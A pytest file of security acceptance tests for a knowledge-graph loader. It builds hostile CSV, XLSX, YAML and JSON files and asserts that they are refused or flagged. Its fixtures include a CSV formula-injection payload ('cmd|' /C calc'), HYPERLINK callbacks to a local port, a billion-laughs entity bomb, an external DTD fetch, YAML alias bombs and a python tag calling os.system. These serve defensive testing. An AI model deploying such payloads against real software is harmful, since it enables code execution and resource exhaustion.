"""Hostile tables, workbooks and trees: refused or flagged where they stand, quickly, and with nothing stored.

Acceptance tests 11 to 16, 19, 22 and 23 of the security study for these formats; each file is made here.
"""

from __future__ import annotations

import io
import json
import os
import re
import socket
import subprocess
import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest

from kg import formats
from kg.claim import Entity
from kg.ingest import OnFile, check
from tests.conftest import HERE

#: Where the DOCTYPE, far cell, alias … must be told, by file: severity, place, and a word of the message.
VERDICTS: dict[str, tuple[str, str, str]] = {
    "bom.csv": ("accept", "", ""),
    "formula.csv": ("flag", "formula.csv:2:label", "formula"),
    "latin1.csv": ("refuse", "latin1.csv:2:8", "after byte 16"),
    "utf16.csv": ("refuse", "utf16.csv:1:1", "UTF-16; save it again as UTF-8"),
    "nul.csv": ("refuse", "nul.csv:2:4", "NUL"),
    "ragged.csv": ("refuse", "ragged.csv:2:url", "too few"),
    "dup_header.csv": ("refuse", "dup_header.csv:1:label", "twice"),
    "semicolon.csv": ("refuse", "semicolon.csv:1:1", "semicolon"),
    "nfc_nfd.csv": ("flag", "nfc_nfd.csv:3:label", "encoding of its accents"),
    "bidi.csv": ("flag", "bidi.csv:2:label", "U+202E"),
    "homoglyph.csv": ("flag", "homoglyph.csv:3:label", "Cyrillic"),
    "control.csv": ("refuse", "control.csv:2:label", "U+001B"),
    "xlsx_farcell.xlsx": ("refuse", "xlsx_farcell.xlsx!s:XFD1048576", "far"),
    "xlsx_formula.xlsx": ("refuse", "xlsx_formula.xlsx!s:A1", "formula"),
    "xlsx_laughs.xlsx": ("refuse", "xlsx_laughs.xlsx!xl/worksheets/sheet1.xml:1:", "DOCTYPE"),
    "xlsx_utf16.xlsx": ("refuse", "xlsx_utf16.xlsx!xl/worksheets/sheet1.xml:1:", "DOCTYPE"),
    "xlsx_aside.xlsx": ("refuse", "xlsx_aside.xlsx!docProps/app.xml:1:", "DOCTYPE"),
    "xlsx_farrow.xlsx": ("refuse", "xlsx_farrow.xlsx!s:A200001", "far"),
    "yaml_bomb.yaml": ("refuse", "yaml_bomb.yaml:2:10", "write it out"),
    "yaml_merge_bomb.yaml": ("refuse", "yaml_merge_bomb.yaml:2:", "alias"),
    "yaml_norway.yaml": ("refuse", "yaml_norway.yaml:9:1", "twice"),
    "yaml_python.yaml": ("refuse", "yaml_python.yaml:1:1", "tag"),
    "yaml_recursive.yaml": ("refuse", "yaml_recursive.yaml:1:5", "write it out"),
    "yaml_tabs.yaml": ("refuse", "yaml_tabs.yaml:2:1", "tabs"),
    "json_deep.json": ("refuse", "json_deep.json:1:", "nested"),
    "json_twice.jsonl": ("refuse", "json_twice.jsonl:1:11", "twice"),
    "json_open.jsonl": ("refuse", "json_open.jsonl:1:", "JSON"),
}
BIG: dict[str, tuple[str, str, str]] = {
    "one_line.csv": ("refuse", "one_line.csv:2:1", "1,048,576 characters"),
    "xlsx_bomb.xlsx": ("refuse", "xlsx_bomb.xlsx:1:1", "unpacks to"),
    "deep.yaml": ("refuse", "deep.yaml:1:", "nested"),
    "deep.json": ("refuse", "deep.json:1:", "nested"),
    "wide.csv": ("refuse", "wide.csv:1:1", "columns"),
    "many_problems.csv": ("refuse", "many_problems.csv:2:stance", "more problems"),
}

_SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_END = "</sheetData></worksheet>"
_LOL = (
    "<!DOCTYPE r [<!ENTITY a0 'lol'>"
    + "".join(f"<!ENTITY a{at} '{f'&a{at - 1};' * 10}'>" for at in range(1, 10))
    + "]>"
)


def workbook(sheet: Iterable[bytes | str], **more: str) -> bytes:
    """Return the smallest workbook around the XML of one sheet named s."""
    office = "http://schemas.openxmlformats.org"
    rel = f"{office}/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{office}/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="r1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{office}/spreadsheetml/2006/main" xmlns:r="{rel}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        **more,
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, text in parts.items():
            made.writestr(name, text)
        with made.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for piece in sheet:
                part.write(piece if isinstance(piece, bytes) else piece.encode())
    return file.getvalue()


def small(port: int) -> dict[str, bytes | str]:
    """Return the small files by name; what could call out would call this port."""
    call = f"http://127.0.0.1:{port}/"
    nine = ",".join
    return {
        "bom.csv": b"\xef\xbb\xbfid,label\n1,Citro\xc3\xabn\n",
        "formula.csv": f"id,label,value\n1,=HYPERLINK(\"{call}?\"&A1),10\n2,+1+cmd|' /C calc'!A0,20\n3,-2+3,30\n4,@SUM(1),40\n5,\t=1+1,50\n"
        '6,"\r=1+1",60\n7,＝1+1,70\n8,-12.5,80\n',
        "latin1.csv": "id,label\n1,Citroën\n".encode("latin-1"),
        "utf16.csv": "id,label\n1,Citroën\n".encode("utf-16"),
        "nul.csv": b"id,label\n1,a\x00b\n",
        "ragged.csv": 'id,label,url\n1,a\n2,b,http://e/,extra,more\n"3,unclosed\n',
        "dup_header.csv": "id,label,label\n1,a,b\n",
        "semicolon.csv": "id;label\n1;a\n",
        "nfc_nfd.csv": "id,label,kinds\na,Caf\u00e9,oem\nb,Cafe\u0301,oem\n",
        "bidi.csv": "id,label,kinds\na,CATL \u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth,oem\n",
        "homoglyph.csv": "id,label,kinds\na,Acme,oem\nb,\u0410cme,oem\n",
        "control.csv": "id,label,kinds\na,esc\x1b[31m bell\x07,oem\n",
        "xlsx_farcell.xlsx": workbook([_SHEET, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', _END]),
        "xlsx_formula.xlsx": workbook([_SHEET, f'<row r="1"><c r="A1"><f>HYPERLINK("{call}")</f><v>cached</v></c></row>', _END]),
        "xlsx_laughs.xlsx": workbook(['<?xml version="1.0"?>', _LOL, _SHEET, '<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>', _END]),
        "xlsx_utf16.xlsx": workbook([f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w SYSTEM "{call}evil.dtd">{_SHEET}{_END}'.encode("utf-16")]),
        "xlsx_aside.xlsx": workbook([_SHEET, '<row><c t="inlineStr"><is><t>id</t></is></c></row>', _END], **{"docProps/app.xml": f"{_LOL}<r>&a9;</r>"}),
        "xlsx_farrow.xlsx": workbook([_SHEET, '<row r="200000"/><row><c><v>1</v></c></row>', _END]),
        "yaml_bomb.yaml": 'a0: &a0 ["x","x"]\n' + "".join(f"a{at}: &a{at} [{nine([f'*a{at - 1}'] * 9)}]\n" for at in range(1, 10)),
        "yaml_merge_bomb.yaml": "a0: &a0 {k: v}\n" + "".join(f"a{at}: &a{at} {{<<: [{nine([f'*a{at - 1}'] * 9)}]}}\n" for at in range(1, 7)),
        "yaml_norway.yaml": "country: NO\nversion: 1.10\ndate: 2024-02-30\nsexagesimal: 12:30:45\noctal: 0123\nbig: 1_000\nnulls: ~\ndup: 1\ndup: 2\n",
        "yaml_python.yaml": '!!python/object/apply:os.system ["touch RAN"]\n',
        "yaml_recursive.yaml": "&a [*a, {self: *a}]\n",
        "yaml_tabs.yaml": "a:\n\t- x\n",
        "json_deep.json": "[" * 3000 + "1" + "]" * 3000,
        "json_twice.jsonl": '{"id":"x","id":"y"}\n',
        "json_open.jsonl": '{"id":"x","label":"' + "y" * 1000,
    }  # fmt: skip


def big() -> dict[str, bytes | str]:
    """Return the big files by name."""
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c></row>"
    bad = "a,supplies,b,maybe,s," + "x" * 40 + "\n"
    return {
        "one_line.csv": 'id,label\n1,"' + "x" * 20_000_000 + '"\n',
        "xlsx_bomb.xlsx": workbook([_SHEET, *[row * 1000] * 300, _END]),
        "deep.yaml": "[" * 100_000 + "]" * 100_000,
        "deep.json": "[" * 2_000_000 + "]" * 2_000_000,
        "wide.csv": ",".join(f"c{at}" for at in range(200_000)) + "\n",
        "many_problems.csv": "subject,relation,object,stance,source,paraphrase\n"
        + ("a,supplies,b,,s\x01,x\n" + bad) * 20_000,
    }


#: Loads each file in a workspace of its own and tells what came of it; run apart, so that its children can be measured.
_RUN = """
import json, resource, sys, time
from pathlib import Path
from kg import KnowledgeGraph
told = {}
with KnowledgeGraph(sys.argv[1], shipped=False) as graph:
    for path in sorted(Path(sys.argv[2]).iterdir()):
        head, began = graph.head, time.monotonic()
        checked, batch = graph.load(path)
        told[path.name] = {
            "seconds": time.monotonic() - began, "stored": batch is not None, "moved": graph.head != head,
            "problems": [[problem.severity, str(problem)] for problem in checked.problems],
        }
        if batch is not None:
            graph.undo(batch.seq)
print(json.dumps({"files": told, "children": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def outcome(tmp_path: Path, files: dict[str, bytes | str]) -> dict:
    """Load hostile files one by one in a process of its own."""
    folder = tmp_path / "files"
    folder.mkdir()
    for name, content in files.items():
        (folder / name).write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    environment = {**os.environ, "PYTHONPATH": str(HERE.parent)}
    done = subprocess.run(
        [sys.executable, "-c", _RUN, str(tmp_path / "home"), str(folder)],
        capture_output=True, text=True, env=environment, cwd=tmp_path, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "RAN").exists()
    return json.loads(done.stdout)


def judge(name: str, verdict: tuple[str, str, str], told: dict) -> None:
    """Compare what came of a file with its verdict."""
    wanted, place, word = verdict
    severity = {"refuse": "error", "flag": "warning"}.get(wanted)
    assert told["stored"] == (wanted != "refuse"), (name, told["problems"][:5])
    assert told["moved"] == (wanted != "refuse"), name
    if severity:
        spoken = [text for grade, text in told["problems"] if grade == severity]
        assert any(text.startswith(place) for text in spoken), (name, spoken[:5])
        assert any(word in text for text in spoken), (name, spoken[:5])
    else:
        assert all(grade != "error" for grade, _ in told["problems"]), name
    for grade, text in told["problems"]:
        if grade == "error" and "and-more" not in text:
            assert re.match(rf"{re.escape(name)}(![^:]+)?:([A-Z]*\d+|\d+:\S+)", text), text  # a place …
            assert re.search("[;?] ?", text.partition("  ")[2]), text  # … and what to do
        assert "\x1b" not in text
        assert "\u202e" not in text.partition("  ")[0]


@pytest.mark.skipif(sys.platform == "win32", reason="measures with the resource module")
def test_every_small_hostile_file_has_its_verdict(tmp_path):
    """Under 5 s and 512 MB each, with no call to the network, and nothing stored of what is refused."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        files = small(listener.getsockname()[1])
        assert files.keys() == VERDICTS.keys()
        result = outcome(tmp_path, files)
        with pytest.raises(BlockingIOError):
            listener.accept()
    for name, verdict in VERDICTS.items():
        judge(name, verdict, result["files"][name])
        assert result["files"][name]["seconds"] < 5, name
    assert result["children"] < 512 * 1024


@pytest.mark.skipif(sys.platform == "win32", reason="measures with the resource module")
def test_every_big_hostile_file_is_refused(tmp_path):
    """Under 10 s and 1 GB each; nothing stored."""
    result = outcome(tmp_path, big())
    for name, verdict in BIG.items():
        judge(name, verdict, result["files"][name])
        assert result["files"][name]["seconds"] < 10, name
    assert result["children"] < 1024 * 1024


def test_the_command_says_so_with_its_exit_code(world, run, tmp_path):
    """1 for what is refused, 0 for what is only flagged; no escape sequence reaches the terminal."""
    files = small(9)
    for name in (
        "nul.csv",
        "xlsx_formula.xlsx",
        "yaml_python.yaml",
        "control.csv",
        "bidi.csv",
        "bom.csv",
        "formula.csv",
    ):
        path = tmp_path / name
        content = files[name]
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        done = run("load", str(path), "--dry-run")
        assert done.returncode == (1 if VERDICTS[name][0] == "refuse" else 0), (name, done.stderr)
        assert not re.search("[\x00-\x08\x0b-\x1f\u202e\u2066]", done.stdout + done.stderr), name


def test_a_formula_is_stored_to_the_letter(world, tmp_path):
    """And the number that begins with a minus is only a number."""
    (tmp_path / "formula.csv").write_bytes(str(small(9)["formula.csv"]).encode())
    checked, batch = world.load(tmp_path / "formula.csv")
    assert batch is not None
    labels = [record.label for record, _ in checked.records if isinstance(record, Entity)]
    assert labels[2:] == ["-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "-12.5"]
    notes = [record.note for record, _ in checked.records if isinstance(record, Entity)]
    assert notes == [f"value: {ten}0" for ten in range(1, 9)]


def test_the_same_facts_in_any_dress_are_the_same_claims(world, tmp_path):
    """Keys in another order, other line ends, a byte order mark, another format: nothing new."""
    fact = {
        "subject": "basalt", "relation": "supplies", "object": "delta", "layer": "pack", "stance": "reported",
        "source": "harbour-2025-06-01", "quote": "two\nlines", "confidence": "0.90",
    }  # fmt: skip
    turned = dict(reversed(fact.items()))
    quoted = [
        ",".join(row) + "\r\n"
        for row in ([*turned], [f'"{text}"'.replace("\n", "\r\n") for text in turned.values()])
    ]
    files: dict[str, str] = {
        "a.jsonl": json.dumps(fact) + "\n",
        "b.jsonl": "\ufeff" + json.dumps(turned) + "\r\n\r\n",
        "c.csv": "\ufeff" + "".join(quoted),
        "d.yaml": json.dumps([turned]).replace("\n", "\r\n"),
        "e.json": json.dumps({"facts": [turned]}, indent=2).replace("\n", "\r\n"),
    }
    head = ""
    for name, text in files.items():
        (tmp_path / name).write_bytes(text.encode("utf-8"))
        checked, batch = world.load(tmp_path / name)
        assert checked.errors == [], name
        assert (batch is not None) == (not head), name
        head = head or world.head
        assert world.head == head


def test_a_bad_row_last_of_ten_thousand_stores_nothing_in_any_form(world, tmp_path):
    """And the same file mended loads in one go."""
    head = world.head
    rows = [
        {"subject": "basalt", "relation": "supplies", "object": "delta", "layer": "pack", "stance": "reported",
         "source": "harbour-2025-06-01", "paraphrase": f"The paper says so, {at}."}
        for at in range(10_000)
    ]  # fmt: skip
    path = tmp_path / "b.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in [*rows, {**rows[0], "stance": "maybe"}]))
    checked, batch = world.load(path)
    assert [str(problem).split("  ")[0] for problem in checked.errors] == ["b.jsonl:10001:stance"]
    assert (batch, world.head) == (None, head)
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    checked, batch = world.load(path)
    assert checked.errors == []
    assert batch is not None


def test_a_reader_that_is_ended_is_told_in_plain_words(tmp_path, monkeypatch):
    """Time and memory: what to do about it, and no traceback."""
    path = tmp_path / "b.yaml"
    path.write_text("".join(f"- {{id: x{at}, label: X, kinds: oem}}\n" for at in range(20_000)))
    for limits, says in (
        ((0.15, 1 << 30), "split it into smaller files"),
        ((60.0, 30 << 20), "MiB of memory"),
    ):
        monkeypatch.setattr(formats, "_limits", lambda files, limits=limits: limits)
        batch = formats.read(path)
        assert [problem.code for problem in batch.problems] == ["unreadable"]
        assert says in batch.problems[0].message
        assert check(batch, OnFile()).records == []
